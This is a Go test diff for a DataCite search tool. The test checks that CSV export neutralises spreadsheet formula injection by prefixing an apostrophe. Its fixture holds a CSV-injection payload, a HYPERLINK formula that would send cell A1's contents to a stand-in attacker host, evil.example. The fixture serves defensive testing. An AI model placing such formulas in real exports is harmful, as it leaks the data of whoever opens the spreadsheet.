@@ -29,6 +29,16 @@ func service(t *testing.T) *datacitetest.Server {
 	return srv
 }
 
+// A stranger's title is no formula of whoever opens the table.
+func TestTitlesAreNoFormulas(t *testing.T) {
+	srv := service(t)
+	require.NoError(t, srv.PutRecordJSON([]byte(`{"doi":"10.5072/formula","titles":[{"title":"=HYPERLINK(\"https://evil.example/?\"&A1)"}],"creators":[{"name":"@Ada"}],"types":{"resourceTypeGeneral":"Dataset"}}`)))
+	var out, notes bytes.Buffer
+	require.NoError(t, run(t.Context(), &program.Program{Name: "search", Args: []string{"-api", srv.URL, "-format", "csv", "doi:*formula"}, Stdout: &out, Stderr: &notes}))
+	assert.Contains(t, out.String(), `"'=HYPERLINK(""https://evil.example/?""&A1)",'@Ada,`)
+	assert.Contains(t, notes.String(), "2 cells could be taken for a formula by a spreadsheet, and got an apostrophe in front")
+}
+
 // search runs the command and returns what it prints.
 func search(t *testing.T, args ...string) (out, notes string, err error) {
 	t.Helper()
